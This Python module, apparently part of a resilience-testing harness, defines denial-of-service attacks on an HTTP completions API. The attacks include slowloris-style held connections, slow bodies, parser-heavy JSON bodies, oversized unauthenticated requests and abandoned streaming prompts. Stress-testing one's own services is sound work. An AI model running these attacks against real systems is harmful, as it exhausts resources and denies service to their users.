"""Attacks on `petalnode api`, by HTTP. A victim's `served` has "http", its host and port, and "api_key", the attacker's
own key."""

from __future__ import annotations

import json
from collections.abc import Mapping
from contextlib import suppress
from typing import Any, Final

import trio

from .keys import PATIENCE, Attack, Key, Victim

BODY: Final = 1 << 20
"""Bytes of the largest body that is read."""
HELD: Final = 5.0  # seconds


async def _dial(key: Key, victim: Victim) -> trio.SocketStream:
    host, port = victim.served["http"]
    with trio.fail_after(PATIENCE):
        key.dials += 1
        return await trio.open_tcp_stream(host, port, local_address=key.source)


def _head(victim: Victim, size: int, *, own_key: bool = True) -> bytes:
    host, port = victim.served["http"]
    lines = ["POST /v1/completions HTTP/1.1", f"Host: {host}:{port}", "Content-Type: application/json"]
    if own_key:
        lines.append(f"Authorization: Bearer {victim.served['api_key']}")
    return "\r\n".join([*lines, f"Content-Length: {size}", "", ""]).encode()


async def _ask(key: Key, victim: Victim, body: bytes, *, own_key: bool = True, reads: bool = True) -> None:
    """Sends one request, and takes the answer, or leaves."""
    stream = await _dial(key, victim)
    async with stream:
        with trio.move_on_after(PATIENCE):
            await stream.send_all(_head(victim, len(body), own_key=own_key) + body)
            while reads and await stream.receive_some(1 << 16):
                pass


async def slow_headers(key: Key, victim: Victim) -> None:
    """Connections on which a request begins and does not go on."""
    async with trio.open_nursery() as nursery:

        async def hold() -> None:
            with suppress(OSError, trio.BrokenResourceError, trio.TooSlowError):
                async with await _dial(key, victim) as stream:
                    await stream.send_all(_head(victim, 100)[:-3])
                    await trio.sleep(HELD)

        for _ in range(64):
            nursery.start_soon(hold)


async def slow_bodies(key: Key, victim: Victim) -> None:
    """Bodies as large as may be, of which most never comes."""
    async with trio.open_nursery() as nursery:

        async def hold() -> None:
            with suppress(OSError, trio.BrokenResourceError, trio.TooSlowError):
                async with await _dial(key, victim) as stream:
                    await stream.send_all(_head(victim, BODY) + bytes(BODY // 2))
                    await trio.sleep(HELD)

        for _ in range(16):
            nursery.start_soon(hold)


async def empty_lists(key: Key, victim: Victim) -> None:
    """The largest body, of values that take a parser long."""
    await _ask(key, victim, b'{"prompt":[' + b"[]," * ((BODY - 100) // 3) + b"[]]}")


async def without_key(key: Key, victim: Victim) -> None:
    """Requests that nobody may make, of the largest size."""
    await _ask(key, victim, bytes(BODY), own_key=False)


def _completion(**fields: Any) -> bytes:
    return json.dumps({"model": "default", "max_tokens": 500, "temperature": 0} | fields).encode()


async def long_answers(key: Key, victim: Victim) -> None:
    """Answers that go on for long, of which little is read."""
    stream = await _dial(key, victim)
    async with stream:
        body = _completion(model=victim.served["model"], prompt=[key.number + 5] * 20, stream=True)
        await stream.send_all(_head(victim, len(body)) + body)
        await stream.receive_some(100)
        await trio.sleep(HELD)


async def left_prompts(key: Key, victim: Victim) -> None:
    """Long prompts, and nobody who waits for what follows."""
    body = _completion(model=victim.served["model"], prompt=[key.number + 5] * 3000, stream=True)
    await _ask(key, victim, body, reads=False)


HTTP_ATTACKS: Final[Mapping[str, tuple[Attack, ...]]] = {
    "slow requests": (slow_headers, slow_bodies),
    "costly bodies": (empty_lists, without_key),
    "long answers": (long_answers,),
    "left prompts": (left_prompts,),
}
"""By name, what each key does to each victim; of several, the keys take turns."""
